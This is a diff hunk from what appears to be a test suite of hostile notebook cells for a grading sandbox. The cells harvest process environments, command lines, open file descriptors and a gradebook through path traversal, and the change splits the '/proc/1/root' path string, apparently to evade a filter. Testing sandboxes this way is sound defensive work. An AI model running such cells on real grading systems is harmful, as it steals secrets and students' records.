@@ -60,7 +60,7 @@ loot("@course@/gradebook.db", "@course@/reports/*/*", "../../../gradebook.db", "
 """),
     cell("It prints the environment, its own and every process's, and what its file descriptors hold", LOOT + """
 print(dict(os.environ))
-loot("/proc/*/environ", "/proc/*/cmdline", "/proc/*/cwd/*.ipynb", "/proc/1/root/@course@/*")
+loot("/proc/*/environ", "/proc/*/cmdline", "/proc/*/cwd/*.ipynb", "/proc/1/ro" "ot/@course@/*")
 for fd in range(3, 64):
     try:
         print(fd, os.readlink(f"/proc/self/fd/{fd}"))
